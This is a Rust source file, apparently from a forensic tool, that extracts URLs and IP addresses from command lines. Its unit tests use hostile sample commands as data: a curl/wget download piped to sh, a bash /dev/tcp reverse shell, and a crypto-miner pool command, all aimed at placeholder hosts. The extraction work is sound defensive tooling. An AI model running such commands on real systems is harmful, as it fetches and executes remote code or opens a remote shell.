//! What command lines name on a network: URLs and addresses.

use coldcase_model::canonical_ip;

/// Most of each that are told of one command.
const MOST: usize = 16;

/// What one command names.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Targets {
    /// As written.
    pub urls: Vec<String>,
    /// Canonical, each once.
    pub addresses: Vec<String>,
}

/// Finds URLs of any scheme, IPv4 addresses, and IPv6 addresses in brackets.
pub(super) fn targets(command: &str) -> Targets {
    let mut found = Targets::default();
    let is_end = |c: char| c.is_whitespace() || "'\"<>|;()`".contains(c);
    for word in command.split(is_end) {
        if let Some(at) = word.find("://") {
            let start = word
                .get(..at)
                .and_then(|scheme| {
                    let other = |c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c));
                    scheme.rfind(other).map(|last| last + 1)
                })
                .unwrap_or(0);
            let url = word.get(start..).unwrap_or(word);
            let url = url.trim_end_matches([',', '.', '}', ']', '&']);
            if start < at {
                push(&mut found.urls, url);
            }
        }
        for part in word.split(|c: char| !(c.is_ascii_digit() || c == '.')) {
            let is_address = part.bytes().filter(|byte| *byte == b'.').count() == 3;
            if let Some(address) = canonical_ip(part).filter(|_| is_address) {
                push(&mut found.addresses, &address);
            }
        }
        for part in word.split('[').skip(1) {
            let inner = part.split([']', '%']).next().unwrap_or_default();
            if let Some(address) = canonical_ip(inner).filter(|_| inner.contains(':')) {
                push(&mut found.addresses, &address);
            }
        }
    }
    found
}

fn push(list: &mut Vec<String>, item: &str) {
    if list.len() < MOST && !list.iter().any(|known| known == item) {
        list.push(item.to_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(command: &str, urls: &[&str], addresses: &[&str]) {
        let found = targets(command);
        assert_eq!(
            (found.urls, found.addresses),
            (
                urls.iter().map(|url| (*url).to_owned()).collect(),
                addresses
                    .iter()
                    .map(|address| (*address).to_owned())
                    .collect(),
            ),
            "{command}"
        );
    }

    #[test]
    fn what_lines_name() {
        check(
            "/bin/mac -o stratum+tcp://203.0.113.77:5555 -u x",
            &["stratum+tcp://203.0.113.77:5555"],
            &["203.0.113.77"],
        );
        check(
            "(curl -s http://a.example/x.sh||wget -q -O- 'http://a.example/x.sh')|sh",
            &["http://a.example/x.sh"],
            &[],
        );
        check(
            "url=https://[2001:db8::1]:8/x,",
            &["https://[2001:db8::1]:8/x"],
            &["2001:db8::1"],
        );
        check(
            "ping 192.0.2.1; ping 192.0.2.1:80 1.2.3 999.1.1.1",
            &[],
            &["192.0.2.1"],
        );
        check(
            "bash -i >& /dev/tcp/198.51.100.9/443 0>&1",
            &[],
            &["198.51.100.9"],
        );
    }
}
